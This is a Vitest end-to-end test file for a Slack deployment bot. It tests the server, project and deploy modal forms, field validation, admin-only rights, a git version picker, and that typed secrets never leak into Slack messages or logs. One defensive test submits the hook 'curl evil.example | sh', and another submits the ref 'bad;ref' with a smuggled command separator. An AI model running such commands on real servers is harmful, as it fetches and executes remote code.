import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ACTIONS, CALLBACKS } from '../../../src/chat/slack/ids.js';
import { startAppFixture, type AppFixture } from './app-fixture.js';
import { allText, CHANNEL, numberValue, optionValue, plainValue, radioValue, USERS } from './slack-harness.js';

/**
 * The forms end to end: opened from `/deploy`, submitted as Slack submits them, validated by the
 * services (errors beside the right inputs), and the deploy form's version picker over a real git
 * repository. Secrets typed into a form must never come back out.
 */

let f: AppFixture;
beforeAll(async () => {
  f = await startAppFixture();
});
afterEach(() => f.h.expectNoRefusals());
afterAll(async () => {
  await f?.close();
});

const PEM_SECRET = 'QmVnaW5Ub3BTZWNyZXRLZXlNYXRlcmlhbA';
const FAKE_KEY = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA${PEM_SECRET}\n-----END OPENSSH PRIVATE KEY-----`;
const PASSPHRASE = 'passphrase-never-echoed-7431';
const PASSWORD = 'password-never-echoed-9921';

describe('server form', () => {
  it('opens at once for an admin, with the channel in private_metadata', async () => {
    const mark = f.h.mark();
    const { ack } = await f.h.command(USERS.admin, 'server add');
    f.acked('server add (form)', ack);
    const opened = await f.h.openedView(mark);
    expect(opened.trigger_id).toEqual(expect.any(String));
    expect(opened.view).toMatchObject({ type: 'modal', callback_id: CALLBACKS.serverAdd });
    expect(JSON.parse(String(opened.view.private_metadata))).toEqual({ channel: CHANNEL });
    const ids = (opened.view.blocks as { block_id?: string }[]).map((b) => b.block_id);
    expect(ids).toEqual(['name', 'hostname', 'port', 'username', 'authKind', 'keyPath', 'privateKey', 'privateKeyMore', 'passphrase', 'password', 'labels']);
  });

  it('answers field errors on the right blocks, keeps nothing, echoes no secret', async () => {
    const before = await f.state();
    const res = f.acked(
      'server add submit (errors)',
      await f.h.submit({
        callback_id: CALLBACKS.serverAdd,
        user_id: USERS.admin,
        private_metadata: JSON.stringify({ channel: CHANNEL }),
        values: {
          name: plainValue('Web 1'),
          hostname: plainValue('bad host!'),
          port: numberValue('70000'),
          username: plainValue('deploy'),
          authKind: radioValue('key'),
          privateKey: plainValue('not a key'),
          passphrase: plainValue(PASSPHRASE),
          password: plainValue(null),
          labels: plainValue(null),
        },
      }),
    );
    const body = res.json as { response_action: string; errors: Record<string, string> };
    expect(body.response_action).toBe('errors');
    expect(Object.keys(body.errors).sort()).toEqual(['hostname', 'name', 'port', 'privateKey']);
    expect(body.errors.port).toMatch(/between 1 and 65535/);
    expect(res.body).not.toContain(PASSPHRASE);
    expect(await f.state()).toEqual(before);
  });

  it('puts a password-auth rule on the password block', async () => {
    const res = await f.h.submit({
      callback_id: CALLBACKS.serverAdd,
      user_id: USERS.admin,
      values: { name: plainValue('web-4'), hostname: plainValue('10.0.0.4'), port: numberValue('22'), username: plainValue('deploy'), authKind: radioValue('password'), password: plainValue(null) },
    });
    expect(res.json).toEqual({ response_action: 'errors', errors: { password: 'password is required for password authentication' } });
  });

  it('adds the server on a valid submission, closes, and tells only the admin', async () => {
    const mark = f.h.mark();
    const res = f.acked(
      'server add submit',
      await f.h.submit({
        callback_id: CALLBACKS.serverAdd,
        user_id: USERS.admin,
        private_metadata: JSON.stringify({ channel: CHANNEL }),
        values: {
          name: plainValue('web-3'),
          hostname: plainValue('10.0.0.3'),
          port: numberValue('2203'),
          username: plainValue('deploy'),
          authKind: radioValue('key'),
          privateKey: plainValue(FAKE_KEY),
          passphrase: plainValue(PASSPHRASE),
          labels: plainValue('eu, blue'),
        },
      }),
    );
    expect(res.body).toBe('');
    const told = await f.h.next(mark, (c) => c.method === 'chat.postEphemeral');
    expect(told.args).toMatchObject({ channel: CHANNEL, user: USERS.admin });
    expect(allText(told.args)).toContain('Added server *web-3*');
    const web3 = (await f.state()).servers.find((s) => s.name === 'web-3');
    expect(web3).toMatchObject({ hostname: '10.0.0.3', port: 2203, authKind: 'key', labels: ['eu', 'blue'] });
    const details = await f.h.runtime.app.withServices(async (s) => s.servers.connectionDetails(await s.servers.require('web-3')));
    expect(details.auth).toEqual({ kind: 'key', privateKey: `${FAKE_KEY}\n`, passphrase: PASSPHRASE });

    const pw = await f.h.submit({
      callback_id: CALLBACKS.serverAdd,
      user_id: USERS.admin,
      values: { name: plainValue('web-4'), hostname: plainValue('10.0.0.4'), port: numberValue('22'), username: plainValue('deploy'), authKind: radioValue('password'), password: plainValue(PASSWORD) },
    });
    expect(pw.body).toBe('');
    await f.h.next(mark, (c) => c.method === 'chat.postMessage' && c.args.channel === USERS.admin && allText(c.args).includes('web-4'));
    const web4 = await f.h.runtime.app.withServices(async (s) => s.servers.connectionDetails(await s.servers.require('web-4')));
    expect(web4.auth).toEqual({ kind: 'password', password: PASSWORD });
  });

  it('never echoes a typed secret: not in a Slack call, not in a log line', async () => {
    const everything = JSON.stringify(f.h.standIn.calls().map((c) => [c.args, c.response])) + f.h.logs.join('\n');
    for (const secret of [PEM_SECRET, PASSPHRASE, PASSWORD]) expect(everything).not.toContain(secret);
  });

  it('refuses a submission by a non-admin on the form', async () => {
    const res = await f.h.submit({
      callback_id: CALLBACKS.serverAdd,
      user_id: USERS.alice,
      values: { name: plainValue('web-8'), hostname: plainValue('10.0.0.8'), username: plainValue('deploy'), authKind: radioValue('key') },
    });
    expect((res.json as { errors: Record<string, string> }).errors).toEqual({ name: expect.stringContaining('Only deploybot admins can add servers') });
  });

  it('edits a server from a pre-filled form', async () => {
    const mark = f.h.mark();
    await f.h.command(USERS.admin, 'server edit web-1');
    const opened = await f.h.openedView(mark);
    expect(opened.view.callback_id).toBe(CALLBACKS.serverEdit);
    const blocks = opened.view.blocks as { block_id?: string; element?: { initial_value?: string } }[];
    const initial = (id: string) => blocks.find((b) => b.block_id === id)?.element?.initial_value;
    expect([initial('hostname'), initial('port'), initial('username'), initial('privateKey')]).toEqual(['127.0.0.1', '2201', 'root', undefined]);
    const metadata = String(opened.view.private_metadata);
    const values = { hostname: plainValue('127.0.0.1'), port: numberValue('2301'), username: plainValue('root'), authKind: radioValue('key'), keyPath: plainValue(null), labels: plainValue('eu') };
    const bad = await f.h.submit({ callback_id: CALLBACKS.serverEdit, user_id: USERS.admin, private_metadata: metadata, values: { ...values, port: numberValue('0') } });
    expect((bad.json as { errors: Record<string, string> }).errors).toEqual({ port: expect.stringMatching(/between 1 and 65535/) });
    const good = await f.h.submit({ callback_id: CALLBACKS.serverEdit, user_id: USERS.admin, private_metadata: metadata, values });
    expect(good.body).toBe('');
    await f.h.next(mark, (c) => c.method === 'chat.postEphemeral' && allText(c.args).includes('Updated server *web-1*'));
    expect((await f.state()).servers.find((s) => s.name === 'web-1')).toMatchObject({ port: 2301, labels: ['eu'] });
  });
});

describe('project forms', () => {
  const projectValues = (over: Record<string, unknown> = {}) => ({
    name: plainValue('blog'),
    repoUrl: plainValue(f.repo.url),
    deployPath: plainValue('/srv/blog'),
    servers: { value: { type: 'multi_static_select', selected_options: [{ value: 'web-1' }, { value: 'web-2' }] } },
    environment: radioValue('prod'),
    approvers: { value: { type: 'multi_users_select', selected_users: [USERS.bob] } },
    notifyChannel: { value: { type: 'conversations_select', selected_conversation: 'C0RESULTS' } },
    defaultBranch: plainValue('main'),
    keepReleases: numberValue('3'),
    maxParallel: numberValue('2'),
    onFailure: radioValue('rollback'),
    ...over,
  });

  it('offers the registered servers and validates through the service', async () => {
    const mark = f.h.mark();
    await f.h.command(USERS.admin, 'project add');
    const opened = await f.h.openedView(mark);
    expect(opened.view.callback_id).toBe(CALLBACKS.projectAdd);
    const servers = (opened.view.blocks as { block_id?: string; element?: { options?: { value: string }[] } }[]).find((b) => b.block_id === 'servers');
    expect(servers?.element?.options?.map((o) => o.value)).toEqual(['web-1', 'web-2', 'web-3', 'web-4']);

    const bad = await f.h.submit({
      callback_id: CALLBACKS.projectAdd,
      user_id: USERS.admin,
      private_metadata: String(opened.view.private_metadata),
      values: projectValues({ repoUrl: plainValue('not a repo'), deployPath: plainValue('srv/blog'), servers: { value: { type: 'multi_static_select', selected_options: [] } } }),
    });
    const errors = (bad.json as { response_action: string; errors: Record<string, string> }).errors;
    expect(Object.keys(errors).sort()).toEqual(['deployPath', 'repoUrl', 'servers']);

    const noApprover = await f.h.submit({ callback_id: CALLBACKS.projectAdd, user_id: USERS.admin, values: projectValues({ approvers: { value: { type: 'multi_users_select', selected_users: [] } } }) });
    expect(noApprover.json).toEqual({ response_action: 'errors', errors: { approvers: expect.stringContaining('at least one approver') } });
    expect((await f.state()).projects.map((p) => p.name)).toEqual(['shop']);

    const good = await f.h.submit({ callback_id: CALLBACKS.projectAdd, user_id: USERS.admin, private_metadata: String(opened.view.private_metadata), values: projectValues() });
    expect(good.body).toBe('');
    await f.h.next(mark, (c) => c.method === 'chat.postEphemeral' && allText(c.args).includes('Added project *blog*'));
    expect((await f.state()).projects.find((p) => p.name === 'blog')).toMatchObject({
      environment: 'prod',
      approvers: [USERS.bob],
      notifyChannel: 'C0RESULTS',
      servers: ['web-1', 'web-2'],
      keepReleases: 3,
      maxParallel: 2,
    });
  });

  it('pre-fills the edit form and the hooks form, and saves hooks', async () => {
    let mark = f.h.mark();
    await f.h.command(USERS.admin, 'project edit blog');
    const edit = await f.h.openedView(mark);
    const byId = (view: Record<string, unknown>, id: string) => (view.blocks as { block_id?: string; element?: Record<string, unknown> }[]).find((b) => b.block_id === id)?.element;
    expect(byId(edit.view, 'servers')?.initial_options).toEqual([expect.objectContaining({ value: 'web-1' }), expect.objectContaining({ value: 'web-2' })]);
    expect(byId(edit.view, 'approvers')?.initial_users).toEqual([USERS.bob]);
    expect(byId(edit.view, 'notifyChannel')?.initial_conversation).toBe('C0RESULTS');
    expect(byId(edit.view, 'keepReleases')?.initial_value).toBe('3');

    await f.h.runtime.app.withServices((s) => s.projects.setHooks(f.h.runtime.app.actor(USERS.admin), 'blog', { before_deploy: 'echo migrate\n' }));
    mark = f.h.mark();
    await f.h.command(USERS.admin, 'project hooks blog');
    const hooks = await f.h.openedView(mark);
    expect(hooks.view.callback_id).toBe(CALLBACKS.projectHooks);
    expect(byId(hooks.view, 'before_deploy')?.initial_value).toBe('echo migrate\n');
    const res = await f.h.submit({
      callback_id: CALLBACKS.projectHooks,
      user_id: USERS.admin,
      private_metadata: String(hooks.view.private_metadata),
      values: { before_download: plainValue(null), after_download: plainValue('npm ci'), before_deploy: plainValue('echo migrate\n'), after_deploy: plainValue('') },
    });
    expect(res.body).toBe('');
    await f.h.next(mark, (c) => c.method === 'chat.postEphemeral' && allText(c.args).includes('blog'));
    const blog = (await f.state()).projects.find((p) => p.name === 'blog')!;
    expect(blog.hooks).toEqual({ before_download: '', after_download: 'npm ci', before_deploy: 'echo migrate\n', after_deploy: '' });
  });
});

describe('deploy form and version picker', () => {
  it('opens with a project select; picking a project rebuilds the form for it', async () => {
    await f.h.runtime.app.withServices((s) => s.projects.setHooks(f.h.runtime.app.actor(USERS.admin), 'shop', { after_deploy: 'systemctl reload shop' }));
    const mark = f.h.mark();
    await f.h.command(USERS.alice, '');
    const opened = await f.h.openedView(mark);
    expect(opened.view.callback_id).toBe(CALLBACKS.deploy);
    const ids = (opened.view.blocks as { block_id?: string }[]).map((b) => b.block_id);
    expect(ids).toEqual(['project', 'version', 'schedule']);
    // The view as Slack opened it: its id and hash are what a later views.update must name.
    const shown = ((await f.h.next(mark, (c) => c.method === 'views.open')).response as { view: { id: string; hash: string } }).view;

    const pick = f.acked(
      'deploy form: project picked',
      await f.h.click({
        action_id: ACTIONS.deployProject,
        block_id: 'project',
        type: 'static_select',
        selected_option: { text: { type: 'plain_text', text: 'shop' }, value: 'shop' },
        user_id: USERS.alice,
        view: { id: shown.id, hash: shown.hash, private_metadata: opened.view.private_metadata, callback_id: CALLBACKS.deploy },
      }),
    );
    expect(pick.body).toBe('');
    const update = await f.h.next(mark, (c) => c.method === 'views.update');
    expect(update.args).toMatchObject({ view_id: shown.id, hash: shown.hash });
    expect(update.response).toMatchObject({ ok: true });
    const view = update.args.view as { blocks: { block_id?: string; type: string }[]; private_metadata: string };
    expect(view.blocks.map((b) => b.block_id).filter(Boolean)).toEqual(['project', 'version.shop', 'schedule']);
    expect(JSON.parse(view.private_metadata)).toEqual({ channel: CHANNEL });
    // Alice may deploy but is neither an admin nor an approver: she learns which hooks run, not what they say.
    expect(JSON.stringify(view.blocks)).toContain("Only admins and the project's approvers can read them");
    expect(JSON.stringify(view.blocks)).not.toContain('systemctl reload shop');
    expect(view.blocks.filter((b) => b.type === 'input').map((b) => b.block_id)).toEqual(['project', 'version.shop', 'schedule']);
  });

  it('offers branches, tags (newest first) and commits matching the typed prefix, within 3 s', async () => {
    const first = f.acked('options (first load)', await f.h.suggest({ action_id: ACTIONS.deployVersion, block_id: 'version.shop', value: '', user_id: USERS.alice }));
    expect(first.json).toEqual(expect.objectContaining({}));
    await f.h.slack.deps.versions.idle();
    const load = async (value: string) => {
      const res = f.acked(`options "${value}"`, await f.h.suggest({ action_id: ACTIONS.deployVersion, block_id: 'version.shop', value, user_id: USERS.alice }));
      const groups = (res.json as { option_groups?: { label: { text: string }; options: { value: string; text: { text: string } }[] }[] }).option_groups ?? [];
      return Object.fromEntries(groups.map((g) => [g.label.text, g.options.map((o) => o.value)]));
    };
    const all = await load('');
    expect(all.Branches).toEqual(['main', 'hotfix-payments', 'feature/login']);
    expect(all.Tags).toEqual(['v2.0.0', 'v1.1.0', 'v1.0.0']);
    expect(all['Recent commits']).toHaveLength(3);
    expect(await load('v1')).toEqual({ Tags: ['v1.1.0', 'v1.0.0'] });
    expect(await load('1.1')).toEqual({ Tags: ['v1.1.0'] });
    expect(await load('login')).toMatchObject({ Branches: ['feature/login'], 'Recent commits': [expect.stringMatching(/^[0-9a-f]{40}$/)] });
    const head = await f.repo.git('rev-parse', 'v1.0.0^{commit}');
    expect(await load(head.slice(0, 8))).toEqual({ 'Recent commits': [head] });
    expect(await load('release-2027')).toEqual({ 'As typed': ['release-2027'] });
    expect(await load('bad;ref')).toEqual({});

    const noProject = await f.h.suggest({ action_id: ACTIONS.deployVersion, block_id: 'version', value: '' });
    expect(JSON.stringify(noProject.json)).toContain('Pick a project first');
  });

  const deployValues = (over: Record<string, unknown> = {}) => ({
    project: optionValue(ACTIONS.deployProject, 'shop'),
    'version.shop': optionValue(ACTIONS.deployVersion, 'v1.1.0', 'external_select'),
    schedule: { value: { type: 'datetimepicker', selected_date_time: null } },
    ...over,
  });

  it('answers field errors for an unknown ref, a stale version input, a past time and hooks changed by a non-admin', async () => {
    const before = await f.h.runtime.app.withServices((s) => s.tasks.list());
    const submit = async (values: Record<string, unknown>, user: string = USERS.alice) =>
      ((await f.h.submit({ callback_id: CALLBACKS.deploy, user_id: user, private_metadata: JSON.stringify({ channel: CHANNEL }), values: values as never })).json as { errors: Record<string, string> }).errors;
    expect(await submit(deployValues({ 'version.shop': optionValue(ACTIONS.deployVersion, 'no-such-tag', 'external_select') }))).toEqual({ 'version.shop': expect.stringContaining('There is no branch, tag or commit "no-such-tag"') });
    expect(await submit({ ...deployValues({ project: optionValue(ACTIONS.deployProject, 'blog') }) })).toEqual({ 'version.shop': 'The project changed: pick the version again.' });
    expect(await submit(deployValues({ 'version.shop': optionValue(ACTIONS.deployVersion, ':loading', 'external_select') }))).toEqual({ 'version.shop': 'Pick a branch, tag or commit.' });
    expect(await submit(deployValues({ schedule: { value: { type: 'datetimepicker', selected_date_time: Math.floor(Date.now() / 1000) - 3600 } } }))).toEqual({ schedule: 'this time has passed' });
    expect(await submit(deployValues({ 'hook.shop.after_deploy': plainValue('curl evil.example | sh') }))).toEqual({ 'hook.shop.after_deploy': 'only admins can change hook scripts' });
    expect(await f.h.runtime.app.withServices((s) => s.tasks.list())).toEqual(before);
  });

  it('requests a scheduled deploy and posts its status message where the form was opened', async () => {
    const mark = f.h.mark();
    const at = Math.floor(Date.now() / 1000) + 86_400;
    const res = f.acked('deploy submit', await f.h.submit({ callback_id: CALLBACKS.deploy, user_id: USERS.alice, private_metadata: JSON.stringify({ channel: CHANNEL }), values: deployValues({ schedule: { value: { type: 'datetimepicker', selected_date_time: at } } }) as never }));
    expect(res.body).toBe('');
    const posted = await f.h.next(mark, (c) => c.method === 'chat.postMessage' && c.args.channel === CHANNEL && !c.args.thread_ts);
    const [task] = await f.h.runtime.app.withServices((s) => s.tasks.list({ project: 'shop' }));
    expect(task).toMatchObject({ status: 'scheduled', ref: 'v1.1.0', requestedBy: USERS.alice });
    expect(task!.scheduledAt!.getTime()).toBe(at * 1000);
    // The form pins the commit like the text command does: what is approved is what ships.
    const repoUrl = (await f.h.runtime.app.withServices((s) => s.projects.show('shop'))).repoUrl;
    expect(task!.commit).toBe(await f.h.runtime.git.resolveRef(repoUrl, 'v1.1.0'));
    expect(allText(posted.args)).toContain(`#${task!.id}`);
  });

  it('lets an admin change a hook for one deploy', async () => {
    const mark = f.h.mark();
    const res = await f.h.submit({
      callback_id: CALLBACKS.deploy,
      user_id: USERS.admin,
      private_metadata: JSON.stringify({ channel: CHANNEL }),
      values: deployValues({ schedule: { value: { type: 'datetimepicker', selected_date_time: Math.floor(Date.now() / 1000) + 7200 } }, 'hook.shop.after_deploy': plainValue('echo restarted'), 'hook.shop.before_deploy': plainValue(null) }) as never,
    });
    expect(res.body).toBe('');
    await f.h.next(mark, (c) => c.method === 'chat.postMessage' && c.args.channel === CHANNEL && !c.args.thread_ts);
    const [task] = await f.h.runtime.app.withServices((s) => s.tasks.list({ project: 'shop', limit: 1 }));
    expect(task).toMatchObject({ requestedBy: USERS.admin, hooks: { after_deploy: 'echo restarted', before_deploy: '' } });
  });
});

describe('Slack limits', () => {
  it('acks every request well within 3 seconds', () => {
    f.expectFastAcks(10);
  });
});
